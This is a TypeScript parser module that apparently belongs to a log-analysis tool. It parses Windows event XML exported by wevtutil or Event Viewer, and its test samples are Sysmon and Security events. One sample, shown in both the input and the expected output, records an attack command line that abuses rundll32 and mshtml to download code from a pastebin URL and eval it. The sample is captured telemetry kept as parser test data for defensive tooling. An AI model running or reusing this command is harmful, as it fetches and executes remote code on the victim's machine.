// Windows events as XML text: `wevtutil qe <log> /f:xml` (elements back to back) and Event Viewer's
// "Save as XML" (<Events> document). Framing 'xml-event' hands us one <Event>...</Event> element per record.
// Reference: https://learn.microsoft.com/en-us/windows/win32/wes/eventschema-event-element
// Example (one record, abridged): <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>
//   <Provider Name="Microsoft-Windows-Sysmon" .../><EventID>1</EventID>...<Computer>MSEDGEWIN10</Computer></System>
//   <EventData><Data Name="Image">C:\Windows\hh.exe</Data>...</EventData></Event>
// Field names follow ../evtx/fields.ts (the same names as the EVTX parser); the roles (users, logon types,
// processes, message) come from the shared Windows table through windowsEventFields().
import { ok } from '../../core/result.ts';
import type { TextParser } from '../types.ts';
import { eventXmlData, windowsEventFields } from '../extract/windowsEvent.ts';

const NS = 'http://schemas.microsoft.com/win/2004/08/events/event';

export const windowsXml: TextParser = {
  kind: 'text',
  id: 'windows-xml',
  title: 'Windows event XML (wevtutil, Event Viewer "Save as XML")',
  version: '1',
  url: 'https://learn.microsoft.com/en-us/windows/win32/wes/eventschema-event-element',
  framing: 'xml-event',
  patterns: ['event-data', 'user-data'],

  sniff(head) {
    const t = head.text.trimStart();
    // an <Event> with the event schema namespace, or a bare <Event><System> as some tools write it
    if (!/<Event[\s>]/.test(t.slice(0, 4096))) return 0;
    if (t.includes(NS)) return 0.95;
    return /<Event>\s*<System>/.test(t) ? 0.9 : 0;
  },

  parse(record, ctx) {
    const read = eventXmlData(record);
    if (!read.ok) return read;
    if (record.includes('<EventData')) ctx.hit?.('event-data');
    else if (record.includes('<UserData')) ctx.hit?.('user-data');
    return ok(windowsEventFields(read.value.data, ctx.time));
  },

  samples: [
    {
      // windows-xml/Sysmon_Exec_CompiledHTML.wevtutil.xml, first event
      input: `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"/>
    <EventID>1</EventID>
    <Version>5</Version>
    <Level>4</Level>
    <Task>1</Task>
    <Opcode>0</Opcode>
    <Keywords>0x8000000000000000</Keywords>
    <TimeCreated SystemTime="2019-07-26T07:39:14.375565400Z"/>
    <EventRecordID>4348</EventRecordID>
    <Correlation/>
    <Execution ProcessID="5924" ThreadID="6056"/>
    <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
    <Computer>MSEDGEWIN10</Computer>
    <Security UserID="S-1-5-18"/>
  </System>
  <EventData>
    <Data Name="RuleName"/>
    <Data Name="UtcTime">2019-07-26 07:39:14.345</Data>
    <Data Name="ProcessGuid">{747F3D96-AE22-5D3A-0000-001096B24E00}</Data>
    <Data Name="ProcessId">1504</Data>
    <Data Name="Image">C:\\Windows\\hh.exe</Data>
    <Data Name="FileVersion">10.0.17763.1 (WinBuild.160101.0800)</Data>
    <Data Name="Description">Microsoft® HTML Help Executable</Data>
    <Data Name="Product">HTML Help</Data>
    <Data Name="Company">Microsoft Corporation</Data>
    <Data Name="CommandLine">"C:\\Windows\\hh.exe" C:\\Users\\IEUser\\Desktop\\Fax Record N104F.chm</Data>
    <Data Name="CurrentDirectory">C:\\Users\\IEUser\\Desktop\\</Data>
    <Data Name="User">MSEDGEWIN10\\IEUser</Data>
    <Data Name="LogonGuid">{747F3D96-ABD5-5D3A-0000-0020EB990F00}</Data>
    <Data Name="LogonId">0x00000000000f99eb</Data>
    <Data Name="TerminalSessionId">1</Data>
    <Data Name="IntegrityLevel">Medium</Data>
    <Data Name="Hashes">SHA1=4B1E2F8EFBECB677080DBB26876311D9E06C5020,MD5=1CECEE8D02A8E9B19D3A1A65C7A2B249,SHA256=8AB2F9A4CA87575F03F554AEED6C5E0D7692FA9B5D420008A1521F7F7BD2D0A5,IMPHASH=D3D9C3E81A404E7F5C5302429636F04C</Data>
    <Data Name="ParentProcessGuid">{747F3D96-ABD7-5D3A-0000-001012661000}</Data>
    <Data Name="ParentProcessId">4940</Data>
    <Data Name="ParentImage">C:\\Windows\\explorer.exe</Data>
    <Data Name="ParentCommandLine">C:\\Windows\\Explorer.EXE</Data>
  </EventData>
</Event>`,
      expect: {
        ts: 1564126754375.5654, // 2019-07-26T07:39:14.3755654Z (sub-ms kept)
        'alarm.id': '1', 'obs.host.name': 'MSEDGEWIN10', 'app.name': 'Microsoft-Windows-Sysmon',
        'data.EventID': '1', 'data.Channel': 'Microsoft-Windows-Sysmon/Operational', 'data.Provider_Name': 'Microsoft-Windows-Sysmon',
        'data.EventRecordID': '4348', 'data.ProcessID': '5924', 'data.UserID': 'S-1-5-18', 'data.RuleName': '',
        'data.Image': 'C:\\Windows\\hh.exe', 'data.CommandLine': '"C:\\Windows\\hh.exe" C:\\Users\\IEUser\\Desktop\\Fax Record N104F.chm',
      },
    },
    {
      // Microsoft's example of event 1102 (UserData instead of EventData), as wevtutil writes it on one line
      input: '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Eventlog" Guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"/><EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</Opcode><Keywords>0x4020000000000000</Keywords><TimeCreated SystemTime="2015-10-16T00:39:58.656871200Z"/><EventRecordID>1087729</EventRecordID><Correlation/><Execution ProcessID="820" ThreadID="2644"/><Channel>Security</Channel><Computer>DC01.contoso.local</Computer><Security/></System><UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog"><SubjectUserSid>S-1-5-21-3457937927-2839227994-823803824-1104</SubjectUserSid><SubjectUserName>dadmin</SubjectUserName><SubjectDomainName>CONTOSO</SubjectDomainName><SubjectLogonId>0x55cd1d</SubjectLogonId></LogFileCleared></UserData></Event>',
      expect: {
        'alarm.id': '1102', 'data.Channel': 'Security', 'data.Computer': 'DC01.contoso.local',
        'data.SubjectUserName': 'dadmin', 'data.SubjectDomainName': 'CONTOSO', 'data.EventRecordID': '1087729',
      },
    },
    {
      // windows-xml/Sysmon_Exec_CompiledHTML.wevtutil.xml, second event: &gt; and &amp; in a Data value
      input: `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"/>
    <EventID>1</EventID>
    <Version>5</Version>
    <Level>4</Level>
    <Task>1</Task>
    <Opcode>0</Opcode>
    <Keywords>0x8000000000000000</Keywords>
    <TimeCreated SystemTime="2019-07-26T07:39:14.935857200Z"/>
    <EventRecordID>4353</EventRecordID>
    <Correlation/>
    <Execution ProcessID="5924" ThreadID="6056"/>
    <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
    <Computer>MSEDGEWIN10</Computer>
    <Security UserID="S-1-5-18"/>
  </System>
  <EventData>
    <Data Name="RuleName"/>
    <Data Name="UtcTime">2019-07-26 07:39:14.853</Data>
    <Data Name="ProcessGuid">{747F3D96-AE22-5D3A-0000-001004D84E00}</Data>
    <Data Name="ProcessId">5548</Data>
    <Data Name="Image">C:\\Windows\\System32\\cmd.exe</Data>
    <Data Name="FileVersion">10.0.17763.1 (WinBuild.160101.0800)</Data>
    <Data Name="Description">Windows Command Processor</Data>
    <Data Name="Product">Microsoft® Windows® Operating System</Data>
    <Data Name="Company">Microsoft Corporation</Data>
    <Data Name="CommandLine">"C:\\Windows\\System32\\cmd.exe" /c copy /Y C:\\Windows\\system32\\rundll32.exe %%TEMP%%\\out.exe &gt; nul &amp;&amp; %%TEMP%%\\out.exe javascript:"\\..\\mshtml RunHTMLApplication ";document.write();h=new%%20ActiveXObject("WinHttp.WinHttpRequest.5.1");h.Open("GET","http://pastebin.com/raw/y2CjnRtH",false);try{h.Send();b=h.ResponseText;eval(b);}catch(e){new%%20ActiveXObject("WScript.Shell").Run("cmd /c taskkill /f /im out.exe",0,true);}</Data>
    <Data Name="CurrentDirectory">C:\\Users\\IEUser\\Desktop\\</Data>
    <Data Name="User">MSEDGEWIN10\\IEUser</Data>
    <Data Name="LogonGuid">{747F3D96-ABD5-5D3A-0000-0020EB990F00}</Data>
    <Data Name="LogonId">0x00000000000f99eb</Data>
    <Data Name="TerminalSessionId">1</Data>
    <Data Name="IntegrityLevel">Medium</Data>
    <Data Name="Hashes">SHA1=8C5437CD76A89EC983E3B364E219944DA3DAB464,MD5=975B45B669930B0CC773EAF2B414206F,SHA256=3656F37A1C6951EC4496FABB8EE957D3A6E3C276D5A3785476B482C9C0D32EA2,IMPHASH=272245E2988E1E430500B852C4FB5E18</Data>
    <Data Name="ParentProcessGuid">{747F3D96-AE22-5D3A-0000-001096B24E00}</Data>
    <Data Name="ParentProcessId">1504</Data>
    <Data Name="ParentImage">C:\\Windows\\hh.exe</Data>
    <Data Name="ParentCommandLine">"C:\\Windows\\hh.exe" C:\\Users\\IEUser\\Desktop\\Fax Record N104F.chm</Data>
  </EventData>
</Event>`,
      expect: {
        'alarm.id': '1', 'data.EventRecordID': '4353', 'data.ParentImage': 'C:\\Windows\\hh.exe',
        'data.CommandLine': '"C:\\Windows\\System32\\cmd.exe" /c copy /Y C:\\Windows\\system32\\rundll32.exe %%TEMP%%\\out.exe > nul && %%TEMP%%\\out.exe javascript:"\\..\\mshtml RunHTMLApplication ";document.write();h=new%%20ActiveXObject("WinHttp.WinHttpRequest.5.1");h.Open("GET","http://pastebin.com/raw/y2CjnRtH",false);try{h.Send();b=h.ResponseText;eval(b);}catch(e){new%%20ActiveXObject("WScript.Shell").Run("cmd /c taskkill /f /im out.exe",0,true);}',
      },
    },
  ],
};
